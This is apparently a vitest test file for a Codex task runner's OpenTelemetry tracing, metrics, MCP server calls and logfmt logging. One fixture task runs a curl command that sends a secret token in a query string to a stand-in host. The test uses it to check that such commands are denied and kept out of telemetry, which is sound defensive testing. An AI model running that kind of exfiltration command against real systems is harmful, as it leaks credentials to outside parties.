import * as NodeContext from "@effect/platform-node/NodeContext"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as Tracer from "effect/Tracer"
import { CodexRunner, Host, RunnerConfig, Runs, TaskId } from "../../src/index.ts"
import { eventually } from "../support/processes.ts"
import { type CollectedSpan, type Collector, collector } from "./support/collector.ts"
import { connectTo } from "./support/mcp.ts"
import { outcomeOf, promptOf, scene } from "./support/scene.ts"
import { addFile, command, task, wellBehaved } from "./support/script.ts"

const traceId = "4bf92f3577b34da6a3ce929d0e0e4736"
const spanId = "00f067aa0ba902b7"
const secret = "hunter2-hunter2-hunter2"

const to = ({ url }: Collector) => ({
  OTEL_EXPORTER_OTLP_ENDPOINT: url,
  OTEL_EXPORTER_OTLP_HEADERS: "x-tenant=blue,authorization=Bearer%20key-of-the-collector",
  OTEL_SERVICE_NAME: "nightly",
  OTEL_RESOURCE_ATTRIBUTES: "deployment.environment.name=test"
})

const one = (spans: ReadonlyArray<CollectedSpan>, name: string, attributes: Record<string, unknown> = {}) => {
  const found = spans.filter((span) =>
    span.name === name && Object.entries(attributes).every(([key, value]) => span.attributes[key] === value)
  )
  assert.lengthOf(found, 1, name)
  return found[0] ?? assert.fail(name)
}

/** Names of the spans around a span, the nearest first. */
const around = (spans: ReadonlyArray<CollectedSpan>, inner: CollectedSpan): ReadonlyArray<string> => {
  const parent = spans.find((span) => span.spanId === inner.parent)
  return parent === undefined ? [] : [parent.name, ...around(spans, parent)]
}

describe("a collector that the environment names", () => {
  it.scopedLive("is told of the run, its tasks and their stages, with what they came to, and of nothing secret", () =>
    Effect.gen(function*() {
      const told = yield* collector()
      const { repo, run } = yield* scene({
        tasks: {
          good: task(command("node work.mjs"), addFile("src/good.txt", "a line of the patch")),
          denied: task(command(`curl https://example.invalid/?q=${secret}`)),
          broken: () => ({ _tag: "HttpError", status: 400, code: "invalid_request_error", message: `no ${secret}` })
        }
      })
      const env = { ...to(told), DEPLOY_TOKEN: secret, TRACEPARENT: `00-${traceId}-${spanId}-01` }
      const { code, stderr, task: resultOf } = yield* run({ request: { run_id: "r" }, env })
      assert.strictEqual(code, 1)
      assert.notInclude(stderr, "level=")
      assert.lengthOf(resultOf("denied").denied, 1)

      const spans = told.spans()
      for (const span of spans) assert.strictEqual(span.traceId, traceId, span.name)
      const outermost = one(spans, "codex_runner.command", { "codex_runner.command": "run" })
      assert.strictEqual(outermost.parent, spanId)
      const ofRun = one(spans, "codex_runner.run", { "codex_runner.run.id": "r" })
      assert.strictEqual(ofRun.parent, outermost.spanId)
      assert.deepInclude(ofRun.attributes, {
        "codex_runner.run.status": "completed",
        "codex_runner.run.base_commit": repo.head(),
        "codex_runner.run.tasks": 3,
        "codex_runner.run.tasks_succeeded": 2,
        "codex_runner.run.concurrency": 4
      })
      for (const id of ["good", "denied", "broken"]) {
        const ofTask = one(spans, "codex_runner.task", { "codex_runner.task.id": id })
        assert.strictEqual(ofTask.parent, ofRun.spanId)
        assert.strictEqual(ofTask.attributes["codex_runner.task.status"], resultOf(id).status)
        assert.strictEqual(ofTask.attributes["error.type"], resultOf(id).error?.kind)
        assert.strictEqual(ofTask.failed, id === "broken")
        const stages = spans.filter(({ parent }) => parent === ofTask.spanId).map(({ name }) => name)
        for (const stage of ["worktree", "setup", "codex", "capture", "record"]) {
          assert.include(stages, `codex_runner.task.${stage}`)
        }
      }
      assert.deepInclude(one(spans, "codex_runner.task", { "codex_runner.task.id": "good" }).attributes, {
        "codex_runner.task.files_changed": 1,
        "codex_runner.task.commands_run": 1,
        "codex_runner.task.patch_applicable": true,
        "codex_runner.task.enforcement": "pre-execution",
        "process.exit.code": 0,
        "gen_ai.usage.input_tokens": resultOf("good").usage?.input_tokens
      })
      // A service's work lies in the span of who called it, though it was made long before.
      assert.includeMembers([...around(spans, one(spans, "Codex.open"))], ["codex_runner.run"])

      assert.deepInclude(told.metrics(), {
        "codex_runner.runs codex_runner.run.status=completed": 1,
        "codex_runner.tasks codex_runner.task.status=success": 2,
        "codex_runner.commands": 1,
        "codex_runner.denials": 1,
        "codex_runner.files_changed": 1,
        "codex_runner.task.queue.duration": 3,
        "codex_runner.task.duration codex_runner.task.status=success": 2,
        "codex_runner.tasks.running": 0
      })
      for (const resource of told.resources()) {
        assert.deepInclude(resource, { "service.name": "nightly", "deployment.environment.name": "test" })
      }
      for (const { headers } of told.received) {
        assert.deepInclude(headers, { "x-tenant": "blue", authorization: "Bearer key-of-the-collector" })
      }
      const bodies = told.received.map(({ body }) => body).join("\n")
      for (
        const text of [
          secret,
          "key-of-the-collector",
          promptOf("good"),
          "a line of the patch",
          "work.mjs",
          "curl",
          repo.home
        ]
      ) assert.notInclude(bodies, text)
    }))

  it.scopedLive("takes nothing from a run where it never answers, or is not there", () =>
    Effect.gen(function*() {
      const deaf = yield* collector({ deaf: true })
      const { cli, run } = yield* scene({ tasks: { one: wellBehaved("one") } })
      const ended = yield* run({ env: to(deaf) })
      assert.deepStrictEqual([ended.code, ended.task("one").status], [0, "success"])
      assert.notInclude(ended.stderr, "level=")
      assert.isAbove(deaf.received.length, 0)
      const gone = yield* cli(["runs", "list"], { env: { OTEL_EXPORTER_OTLP_ENDPOINT: "http://127.0.0.1:9" } })
      assert.deepStrictEqual([gone.code, gone.stderr], [0, ""])
    }))

  it.scopedLive("gets the spans of a detached run under those of who asked for it, in protobuf where that is wanted", () =>
    Effect.gen(function*() {
      const told = yield* collector()
      const protobuf = yield* collector()
      const { model, repo } = yield* scene({ tasks: { one: wellBehaved("one") } })
      const config = JSON.parse(repo.read(".mcp-codex.json"))
      const env = {
        ...repo.env,
        ...model.codexEnvironment,
        ...to(told),
        OTEL_EXPORTER_OTLP_METRICS_ENDPOINT: `${protobuf.url}/v1/metrics`,
        OTEL_EXPORTER_OTLP_METRICS_PROTOCOL: "http/protobuf"
      }
      const layer = CodexRunner.layerHost.pipe(
        Layer.provide(RunnerConfig.layerValue(config)),
        Layer.provide(Layer.succeed(Host, { env, directory: repo.root })),
        Layer.provide(NodeContext.layer)
      )
      yield* Effect.gen(function*() {
        const runs = yield* Runs
        const id = yield* CodexRunner.detach({
          tasks: [{ task_id: TaskId.make("one"), prompt: promptOf("one") }]
        })
        assert.strictEqual((yield* runs.wait(id, "2 minutes")).result.results[0]?.status, "success")
      }).pipe(
        Effect.withSpan("asking", { parent: Tracer.externalSpan({ traceId, spanId }) }),
        Effect.provide(layer)
      )
      yield* told.told("codex_runner.command")
      const spans = told.spans()
      const outermost = one(spans, "codex_runner.command", { "codex_runner.command": "detached" })
      assert.strictEqual(outermost.traceId, traceId)
      assert.includeMembers([...around(spans, one(spans, "codex_runner.task"))], [
        "codex_runner.run",
        "codex_runner.command"
      ])
      assert.isFalse(told.received.some(({ path }) => path === "/v1/metrics"))
      for (const { headers } of protobuf.received) {
        assert.strictEqual(headers["content-type"], "application/x-protobuf")
      }
      yield* eventually(() => protobuf.received.some(({ body }) => body.includes("codex_runner.task.duration")))
    }))
})

describe("the MCP server", () => {
  it.scopedLive("tells of its calls and of their runs, and logs as it is asked to", () =>
    Effect.gen(function*() {
      const told = yield* collector()
      const at = yield* scene({ tasks: { one: wellBehaved("one") } })
      const { call, server } = yield* connectTo(at, { env: to(told), args: ["--log-level", "debug"] })
      const tasks = [{ task_id: "one", prompt: promptOf("one") }]
      const { isError, structured } = yield* call("run_codex_tasks", { tasks, wait_sec: 120 })
      assert.isFalse(isError)
      server.child.stdin.end()
      assert.deepStrictEqual(yield* server.ended, { code: 0, signal: null })
      const spans = told.spans()
      const ofRun = one(spans, "codex_runner.run", { "codex_runner.run.id": structured["run_id"] })
      assert.deepStrictEqual(around(spans, ofRun).slice(-1), ["codex_runner.command"])
      one(spans, "codex_runner.command", { "codex_runner.command": "run_codex_tasks" })
      assert.strictEqual(one(spans, "codex_runner.task").parent, ofRun.spanId)
      assert.strictEqual(told.metrics()["codex_runner.tasks codex_runner.task.status=success"], 1)
      assert.match(server.stderr(), /level=DEBUG .*message="task finished" .*task_id=one/)
    }))
})

describe("log lines", () => {
  it.scopedLive("are logfmt on stderr from the level that is asked for, with run and task; stdout is the result's alone", () =>
    Effect.gen(function*() {
      const { cli, run } = yield* scene({ tasks: { one: wellBehaved("one") } })
      const flagged = yield* run({ request: { run_id: "r" }, args: ["--log-level", "debug"] })
      assert.match(flagged.stderr, /level=DEBUG .*message="task finished" .*status=success/)
      assert.match(flagged.stderr, /message="task finished" .*run_id=r\b/)
      assert.match(flagged.stderr, /message="task finished" .*task_id=one\b/)
      assert.notInclude(flagged.stderr, "level=TRACE")
      const again = outcomeOf(
        yield* cli(["run", "-", "--json"], {
          stdin: JSON.stringify([{ task_id: "one", prompt: promptOf("one") }]),
          env: { CODEX_RUNNER_LOG_LEVEL: "trace" }
        })
      )
      assert.match(again.stderr, /level=TRACE .*message="stage entered" .*stage=codex/)
      const wrong = yield* cli(["runs", "list", "--log-level", "loud"])
      assert.deepStrictEqual(wrong, {
        code: 2,
        stdout: "",
        stderr: "--log-level: expected one of all, trace, debug, info, warning, error, fatal, none\n"
      })
    }))
})
